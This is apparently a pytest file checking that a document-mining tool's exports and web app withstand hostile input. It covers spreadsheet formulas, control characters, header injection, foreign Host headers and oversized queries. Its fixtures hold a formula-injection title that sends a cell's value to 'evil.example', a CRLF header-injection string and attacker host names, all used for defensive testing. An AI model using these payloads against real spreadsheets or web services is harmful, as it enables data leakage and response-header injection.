"""Hostile input against the read side: exported cells a spreadsheet would run, control characters,
names outside Latin-1 in download headers, numbers and queries too large, foreign Host headers."""
import csv
import io
import sqlite3
import threading
import urllib.error
import urllib.request

import pytest

from conftest import run_cli
from docmine.store import Store
from storekit import add_document, small_store

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
NUL_TITLE = "Annual report\x00\x01 2021"


@pytest.fixture
def hostile_titles(tmp_path):
    """A store whose documents carry a formula title and a title with a NUL (as PDF metadata can)."""
    db = str(tmp_path / "t.db")
    with Store(db) as s:
        add_document(s, "a.txt", "Europol seized heroin.", {"Europol": "ORG", "heroin": "DRUG"})
        add_document(s, "b.txt", "Interpol seized cocaine.", {"Interpol": "ORG", "cocaine": "DRUG"})
        add_document(s, "c.txt", "Kołodziej met Europol about heroin.",
                     {"Kołodziej": "PERSON", "Europol": "ORG", "heroin": "DRUG"})
    con = sqlite3.connect(db)
    con.execute("UPDATE documents SET title=? WHERE path='a.txt'", (FORMULA_TITLE,))
    con.execute("UPDATE documents SET title=? WHERE path='b.txt'", (NUL_TITLE,))
    con.commit()
    con.close()
    return db


@pytest.mark.slow
def test_csv_export_neutralises_formulas_and_control_characters(hostile_titles, tmp_path):
    out = tmp_path / "docs.csv"
    run_cli("export", "documents", "--db", hostile_titles, "-o", out)
    rows = {r["path"]: r for r in csv.DictReader(open(out, encoding="utf-8"))}
    assert rows["a.txt"]["title"] == "'" + FORMULA_TITLE  # shown as text, not run
    assert rows["b.txt"]["title"] == "Annual report 2021"
    assert rows["c.txt"]["title"] == "c.txt"  # ordinary cells unchanged


@pytest.mark.slow
def test_xlsx_export_of_a_nul_title_succeeds_and_shows_formulas_as_text(hostile_titles, tmp_path):
    import openpyxl

    out = tmp_path / "docs.xlsx"
    run_cli("export", "documents", "--db", hostile_titles, "--format", "xlsx", "-o", out)
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    titles = {row[header.index("path")]: row[header.index("title")] for row in sheet.iter_rows(min_row=2,
                                                                                             values_only=True)}
    assert titles["a.txt"] == "'" + FORMULA_TITLE
    assert titles["b.txt"] == "Annual report 2021"


@pytest.mark.slow
def test_json_export_keeps_values_as_stored(hostile_titles):
    import json

    proc = run_cli("export", "documents", "--db", hostile_titles, "--format", "jsonl")
    titles = {d["path"]: d["title"] for d in map(json.loads, proc.stdout.splitlines())}
    assert titles["a.txt"] == FORMULA_TITLE and titles["b.txt"] == NUL_TITLE


@pytest.fixture
def server(hostile_titles):
    """The web app served by a real WSGI server on loopback (headers are encoded as on the wire)."""
    from werkzeug.serving import make_server

    from docmine.web.app import create_app

    srv = make_server("127.0.0.1", 0, create_app(hostile_titles, allowed_hosts=["workbench.lan"]), threaded=True)
    thread = threading.Thread(target=srv.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{srv.server_port}"
    srv.shutdown()
    thread.join(5)


def _get(url: str, host: str | None = None):
    req = urllib.request.Request(url, headers={"Host": host} if host else {})
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status, r.headers, r.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.headers, exc.read()


@pytest.mark.slow
def test_csv_download_of_a_name_outside_latin1_answers_with_an_encoded_file_name(server):
    from urllib.parse import quote

    status, headers, body = _get(f"{server}/entity/PERSON/{quote('Kołodziej')}?format=csv")
    assert status == 200
    disposition = headers["Content-Disposition"]
    assert disposition.isascii()
    assert 'filename="PERSON-Ko_odziej.csv"' in disposition
    assert "filename*=UTF-8''PERSON-Ko%C5%82odziej.csv" in disposition
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8"))))
    assert len(rows) == 1 and "[Kołodziej]" in rows[0]["kwic"]


def test_file_names_from_entity_names_cannot_break_the_header():
    from docmine.web.app import content_disposition

    header = content_disposition('ORG-a"; filename=evil.exe\r\nSet-Cookie: x=1.csv')
    assert header.isascii() and "\r" not in header and "\n" not in header
    assert header.count('"') == 2  # one quoted ASCII name: no quote of the name's own ends it
    assert header.startswith('attachment; filename="ORG-a_filename_evil.exe_Set-Cookie_x_1.csv"')


@pytest.mark.parametrize("host, status", [
    (None, 200), ("localhost:1234", 200), ("[::1]:80", 200), ("10.1.2.3", 200), ("workbench.lan:8765", 200),
    ("attacker.example", 400), ("attacker.example:8765", 400), ("localhost.attacker.example", 400),
    ("127.0.0.1.nip.io", 400),
])
def test_host_header_must_name_the_app(server, host, status):
    got, _, body = _get(f"{server}/", host)
    assert got == status
    if status == 400:
        assert b"--allow-host" in body  # says how to allow a name


@pytest.fixture
def client(tmp_path):
    from docmine.web.app import create_app

    return create_app(small_store(str(tmp_path / "s.db"))).test_client()


BIG = "9" * 25  # beyond 64 bits


@pytest.mark.parametrize("url, message", [
    (f"/document/1?seizure={BIG}", b"seizure must be between"),
    (f"/search?q=heroin&topic={BIG}", b"topic must be between"),
    (f"/documents?topic={BIG}", b"topic must be between"),
    (f"/comention?min_count={BIG}", b"min_count must be between"),
    ("/comention?min_count=0", b"min_count must be between 1"),
    ("/comention?min_count=two", b"min_count must be a whole number"),
    (f"/seizures?ids={BIG}", b"ids must be a whole number between"),
    (f"/api/seizures?ids=1,{BIG}", b"ids must be a whole number between"),
    ("/autocomplete?q=" + "a" * 50_000, b"give at most 500"),
    ("/search?q=" + "a" * 50_000, b"give at most 500"),
    ("/evidence?row=" + "a" * 50_000 + "&col=heroin", b"give at most 500"),
    ("/evidence?row=Europol&col=heroin&window=chapter", b"unknown window"),
    ("/search?q=heroin&label=DRUGS", b"unknown label"),
], ids=lambda x: x[:40] if isinstance(x, str) else None)
def test_out_of_bounds_arguments_answer_400_with_a_message(client, url, message):
    r = client.get(url)
    assert r.status_code == 400, r.data[:300]
    assert message in r.data


def test_an_id_beyond_64_bits_is_not_found(client):
    assert client.get(f"/document/{BIG}").status_code == 404


def test_full_text_query_of_many_terms_is_refused_fast(client):
    import time

    query = " OR ".join(f"word{i}" for i in range(3000))[:499]
    start = time.perf_counter()
    r = client.get("/search", query_string={"q": query, "text": "1"})
    assert r.status_code == 400 and b"give at most 32" in r.data
    assert time.perf_counter() - start < 1  # refused before FTS5 runs it (it took minutes)
    ok = client.get("/search", query_string={"q": " OR ".join(["heroin"] * 32), "text": "1"})
    assert ok.status_code == 200 and b"a.txt" in ok.data


@pytest.mark.slow
def test_cli_search_refuses_an_oversized_query_with_exit_2(tmp_path):
    db = small_store(str(tmp_path / "s.db"))
    proc = run_cli("search", "--text", " OR ".join(f"w{i}" for i in range(1000)), "--db", db, check=False)
    assert proc.returncode == 2
    assert "docmine: error: the query is" in proc.stderr and "Traceback" not in proc.stderr
    proc = run_cli("search", "--text", " OR ".join(f"w{i}" for i in range(40)), "--db", db, check=False)
    assert proc.returncode == 2 and "give at most 32" in proc.stderr


def test_documents_page_is_paged_and_its_csv_complete(tmp_path, monkeypatch):
    from docmine.web import app as web

    db = small_store(str(tmp_path / "s.db"))
    monkeypatch.setattr(web, "DOCUMENTS_PER_PAGE", 2)
    client = web.create_app(db).test_client()
    first = client.get("/documents").get_data(as_text=True)
    second = client.get("/documents?page=2").get_data(as_text=True)
    assert "a.txt" in first and "b.txt" in first and "c.txt" not in first and "page=2" in first
    assert "c.txt" in second and "a.txt" not in second and "page 2 of 2" in second
    assert client.get("/documents?page=0").status_code == 400
    assert len(client.get("/documents?format=csv").get_data(as_text=True).splitlines()) == 4  # header + 3


def test_pages_kept_between_requests_follow_writes_to_the_store(tmp_path, monkeypatch):
    """Whole-store results are kept while the store is unchanged; a write (an ingest's batch) shows at
    once, in autocomplete once its names are SUGGEST_STALE_S old."""
    import time

    from docmine.web import app as web

    monkeypatch.setattr(web, "SUGGEST_STALE_S", 0.5)
    db = small_store(str(tmp_path / "s.db"))
    client = web.create_app(db).test_client()
    assert "3 documents" in client.get("/").get_data(as_text=True)
    assert client.get("/autocomplete?q=Kap").get_json() == []
    before = client.get("/comention?rows=ORG&cols=DRUG&min_count=1&format=csv").get_data(as_text=True)
    assert client.get("/comention?rows=ORG&cols=DRUG&min_count=1&format=csv").get_data(as_text=True) == before
    with Store(db) as s:
        add_document(s, "d.txt", "Kapitan seized captagon. Europol and captagon.",
                     {"Kapitan": "PERSON", "captagon": "DRUG", "Europol": "ORG"})
    assert "4 documents" in client.get("/").get_data(as_text=True)
    time.sleep(0.6)
    assert [h["entity"] for h in client.get("/autocomplete?q=Kap").get_json()] == ["Kapitan"]
    after = client.get("/comention?rows=ORG&cols=DRUG&min_count=1&format=csv").get_data(as_text=True)
    assert "captagon" in after and "captagon" not in before
    assert "d.txt" in client.get("/documents").get_data(as_text=True)
    entity = client.get("/entity/PERSON/Kapitan").get_data(as_text=True)
    assert "captagon" in entity


def test_report_time_axes_keep_empty_months_and_dates_of_any_precision(tmp_path):
    """The report's timeline had a bar only for months with documents (one document a month
    looked like a steady stream), and pandas' one-format guess dropped dates written to another
    precision ("2021-04" beside "2021-01-05")."""
    import pandas as pd

    from docmine.report.html import month_counts

    counts = month_counts(pd.Series(["2021-01-05", "2021-04", "2021-04-20", None, "not a date"]))
    assert [str(p) for p in counts.index] == ["2021-01", "2021-02", "2021-03", "2021-04"]
    assert counts.tolist() == [1, 0, 0, 2]
    assert month_counts(pd.Series([], dtype=object)).empty

    db = str(tmp_path / "r.db")
    with Store(db) as store:
        add_document(store, "a.txt", "Heroin was seized in Vienna.", {"heroin": "DRUG", "Vienna": "PLACE"},
                     date="2021-01-05")
        add_document(store, "b.txt", "Heroin again, in Vienna.", {"heroin": "DRUG", "Vienna": "PLACE"},
                     date="2021-04")
    out = tmp_path / "r.html"
    run_cli("report", "--db", db, "-o", out)
    html = out.read_text(encoding="utf-8")
    assert "2021-02" in html and "2021-03" in html  # the empty months are on the axis
